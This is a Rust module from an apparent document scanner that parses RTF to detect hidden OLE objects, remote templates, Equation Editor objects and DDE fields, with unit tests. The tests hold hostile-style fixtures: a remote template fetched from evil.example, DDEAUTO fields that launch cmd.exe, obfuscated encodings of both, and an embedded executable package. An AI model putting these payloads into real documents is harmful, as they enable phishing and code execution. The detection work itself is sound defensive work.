//! RTF: objects hidden in hexadecimal, templates fetched from elsewhere, equations that overflow. Reads control words
//! with their groups, as Word does, so that obfuscated ones are still seen.

use super::bytes::{c_string, cut, index, take, u32_le};
use super::links;
use super::office_ole::{read_native, say_dde};
use super::report::Report;

const RTF_BYTES_MAX: usize = 64 << 20;
const OBJECTS_MAX: usize = 64;
const DEPTH_MAX: usize = 4_000;
/// Control words read; honest files of this size have fewer.
const WORDS_MAX: usize = 5_000_000;

/// What the group we are in collects.
#[derive(Clone, Copy, PartialEq)]
enum Mode {
    Text,
    ObjectData,
    Template,
    Field,
    Class,
}

pub fn inspect(data: &[u8], report: &mut dyn Report) {
    let data = data.get(..RTF_BYTES_MAX.min(data.len())).unwrap_or_default();
    let mut groups: Vec<Mode> = Vec::new();
    let mut mode = Mode::Text;
    let (mut object, mut template, mut field, mut class): (Vec<u8>, String, String, String) = Default::default();
    let (mut objects, mut words, mut at, mut updates, mut says_object) = (0usize, 0usize, 0usize, false, false);
    while let Some(byte) = data.get(at) {
        let mut letter = None;
        match byte {
            b'{' => {
                if groups.len() < DEPTH_MAX {
                    groups.push(mode);
                }
                at += 1;
            }
            b'}' => {
                let before = mode;
                mode = groups.pop().unwrap_or(Mode::Text);
                if before == Mode::ObjectData && mode != Mode::ObjectData && objects < OBJECTS_MAX {
                    objects += 1;
                    read_object(&object, updates, report);
                    object.clear();
                    if report.stop() {
                        return;
                    }
                }
                if before == Mode::Field && mode != Mode::Field {
                    say_field(&field, report);
                    field.clear();
                }
                at += 1;
            }
            b'\\' => {
                words += 1;
                if words > WORDS_MAX {
                    break;
                }
                let (word, number, next) = control_word(data, at + 1);
                at = next;
                match word {
                    b"objdata" => {
                        mode = Mode::ObjectData;
                        says_object = true;
                    }
                    b"objupdate" | b"objautlink" => updates = true,
                    b"objocx" => report.fact("files/office-activex", "RTF control"),
                    b"object" | b"objemb" | b"objlink" => says_object = true,
                    b"objclass" => mode = Mode::Class,
                    b"template" => mode = Mode::Template,
                    b"fldinst" => mode = Mode::Field,
                    // `\bin` skips that many raw bytes, also inside hexadecimal.
                    b"bin" => {
                        let count = number.unwrap_or(0).min(data.len() - at.min(data.len()));
                        if mode == Mode::ObjectData {
                            object.extend(
                                data.get(at..at + count)
                                    .unwrap_or_default()
                                    .iter()
                                    .flat_map(|b| [HEX[usize::from(b >> 4)], HEX[usize::from(b & 15)]]),
                            );
                        }
                        at += count;
                    }
                    // Letters may be written by number, which keeps an address from a plain search.
                    b"'" => {
                        letter = hexadecimal(data, at);
                        at += 2;
                    }
                    b"u" => {
                        letter = number.and_then(|code| u32::try_from(code).ok()).and_then(char::from_u32);
                        // One character for readers that know no Unicode follows.
                        at += usize::from(letter.is_some() && data.get(at).is_some_and(|b| !b"{}\\\r\n".contains(b)));
                    }
                    _ => {}
                }
            }
            _ => {
                match mode {
                    Mode::ObjectData if byte.is_ascii_hexdigit() => object.push(*byte),
                    // A line's end in the source is not part of the text.
                    _ if !matches!(byte, b'\r' | b'\n') => letter = Some(char::from(*byte)),
                    _ => {}
                }
                at += 1;
            }
        }
        match (mode, letter) {
            (Mode::Template, Some(letter)) if template.len() < 2048 => template.push(letter),
            (Mode::Field, Some(letter)) if field.len() < 8192 => field.push(letter),
            (Mode::Class, Some(letter)) if class.len() < 256 => class.push(letter),
            _ => {}
        }
    }
    if !object.is_empty() {
        read_object(&object, updates, report);
        objects += 1;
    }
    let template = template.trim();
    let lower = template.to_ascii_lowercase();
    if lower.starts_with("http") || lower.starts_with("\\\\") || lower.starts_with("//") || lower.starts_with("ftp") {
        report.fact("files/office-remote-template", cut(template, 140));
        links::say(template, report);
    }
    if class.to_ascii_lowercase().contains("equation") {
        report.fact("files/office-equation", cut(class.trim(), 60));
    }
    if says_object && objects == 0 {
        report.fact("files/office-embedded-object", cut(class.trim(), 60));
    }
}

const HEX: &[u8; 16] = b"0123456789abcdef";

/// The two digits after `\\'`.
fn hexadecimal(data: &[u8], at: usize) -> Option<char> {
    let digits = std::str::from_utf8(take(data, at, 2)?).ok()?;
    u8::from_str_radix(digits, 16).ok().map(char::from)
}

/// The word after a backslash, its number, and where the text goes on.
fn control_word(data: &[u8], start: usize) -> (&[u8], Option<usize>, usize) {
    let rest = data.get(start..).unwrap_or_default();
    let length = rest.iter().take(64).position(|b| !b.is_ascii_alphabetic()).unwrap_or(rest.len().min(64));
    if length == 0 {
        return (rest.get(..1).unwrap_or_default(), None, start + 1);
    }
    let word = rest.get(..length).unwrap_or_default();
    let mut at = start + length;
    at += usize::from(data.get(at) == Some(&b'-'));
    let digits_start = at;
    while data.get(at).is_some_and(u8::is_ascii_digit) && at - digits_start < 12 {
        at += 1;
    }
    let digits = data.get(digits_start..at).unwrap_or_default();
    let number = std::str::from_utf8(digits).ok().and_then(|text| text.parse().ok());
    at += usize::from(data.get(at) == Some(&b' '));
    (word, number, at)
}

/// OLE1 object in hexadecimal: version, format, class, topic, item, size, then native data.
fn read_object(hex: &[u8], updates: bool, report: &mut dyn Report) {
    if !report.spend(hex.len() / 2) {
        return;
    }
    let value = |b: u8| char::from(b).to_digit(16).and_then(|n| u8::try_from(n).ok()).unwrap_or(0);
    let bytes: Vec<u8> = hex.chunks_exact(2).map(|two| value(two[0]) << 4 | value(two[1])).collect();
    let class_bytes = index(u32_le(&bytes, 8).unwrap_or(0));
    let class =
        if class_bytes < 256 { c_string(take(&bytes, 12, class_bytes).unwrap_or_default()) } else { String::new() };
    let lower = class.to_ascii_lowercase();
    report.fact("files/office-embedded-object", cut(&class, 60));
    if lower.starts_with("equation") {
        report.fact("files/office-equation-rtf", cut(&class, 60));
    }
    if updates {
        report.fact("files/rtf-object-update", cut(&class, 60));
    }
    if lower.starts_with("ole2link") || lower.starts_with("htmlfile") {
        report.fact("files/office-remote-object", cut(&class, 60));
    }
    links::in_bytes(&bytes, report);
    if let Some(body) = native_data(&bytes, class_bytes) {
        if lower == "package" {
            // Ole10Native without the outer length: the reader wants one.
            let mut stream = vec![0; 4];
            stream.extend_from_slice(body);
            read_native(&stream, report);
        } else {
            report.child(if class.is_empty() { "object" } else { &class }, body.to_vec());
        }
    } else if let Some(at) = super::bytes::find(&bytes, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1") {
        report.child("object", bytes.get(at..).unwrap_or_default().to_vec());
    }
}

fn native_data(bytes: &[u8], class_bytes: usize) -> Option<&[u8]> {
    if u32_le(bytes, 4)? != 2 || class_bytes > 256 {
        return None;
    }
    let mut at = 12 + class_bytes;
    for _ in 0..2 {
        at = at.checked_add(4 + index(u32_le(bytes, at)?))?;
    }
    let size = index(u32_le(bytes, at)?);
    let body = bytes.get(at + 4..)?;
    body.get(..size.min(body.len())).filter(|body| body.len() > 8)
}

fn say_field(field: &str, report: &mut dyn Report) {
    let trimmed = field.trim();
    let upper = trimmed.to_ascii_uppercase();
    if upper.starts_with("DDEAUTO") || upper.starts_with("DDE ") {
        say_dde(trimmed, report);
    }
    if let Some(rest) = upper.strip_prefix("HYPERLINK") {
        let original = &trimmed[trimmed.len() - rest.len()..];
        links::say(original.trim().trim_start_matches('"').split('"').next().unwrap_or_default(), report);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::report::tests::Seen;

    fn object(class: &str, body: &[u8]) -> String {
        let mut bytes = vec![1, 5, 0, 0, 2, 0, 0, 0];
        bytes.extend((class.len() as u32 + 1).to_le_bytes());
        bytes.extend(class.as_bytes());
        bytes.push(0);
        bytes.extend([0; 8]);
        bytes.extend((body.len() as u32).to_le_bytes());
        bytes.extend(body);
        bytes.iter().map(|b| format!("{b:02x}")).collect()
    }

    fn seen(text: &str) -> Seen {
        let mut seen = Seen::default();
        inspect(text.as_bytes(), &mut seen);
        seen
    }

    #[test]
    fn objects_and_templates() {
        let check = |text: &str, expect: &[&str]| assert_eq!(seen(text).rules(), expect, "{text}");
        check("{\\rtf1 Hello \\b bold\\b0}", &[]);
        check("{\\rtf1{\\*\\template http://evil.example/a.dotm}}", &["files/office-remote-template"]);
        check(
            "{\\rtf1{\\*\\template \\u104?\\u116?\\u116?\\u112?://e.example/a.dotm}}",
            &["files/office-remote-template"],
        );
        check("{\\rtf1{\\*\\template \\'68\\'74tp://e.example/a.dotm}}", &["files/office-remote-template"]);
        check("{\\rtf1{\\field{\\*\\fldinst {\\b DDE}{\\i \\'41UTO} c:/cmd.exe}}}", &["files/office-dde"]);
        check("{\\rtf1{\\*\\template C:\\\\Normal.dotm}}", &[]);
        check("{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:/cmd.exe}}}", &["files/office-dde"]);
        check(
            &format!("{{\\rtf1{{\\object\\objupdate{{\\*\\objdata {}}}}}}}", object("Equation.3", &[1; 20])),
            &["files/office-embedded-object", "files/office-equation-rtf", "files/rtf-object-update"],
        );
    }

    #[test]
    fn a_packaged_file_is_handed_over_even_when_spread() {
        let mut package = vec![2, 0];
        package.extend(b"a.exe\0C:\\a.exe\0\0\0\x03\0\x02\0\0\0t\0");
        package.extend(4u32.to_le_bytes());
        package.extend(b"MZ\x90\0");
        let spread: String = object("Package", &package).chars().flat_map(|c| [c, '\n']).collect();
        let seen = seen(&format!("{{\\rtf1{{\\object{{\\*\\objdata {{\\par}}{spread}}}}}}}"));
        assert_eq!(seen.children, [("a.exe".to_owned(), b"MZ\x90\0".to_vec())]);
    }

    #[test]
    fn depth_and_broken_words_end() {
        seen(&"{".repeat(20_000));
        seen("{\\rtf1\\bin999999999999 x");
        seen("{\\rtf\\");
        seen("\\'");
    }
}
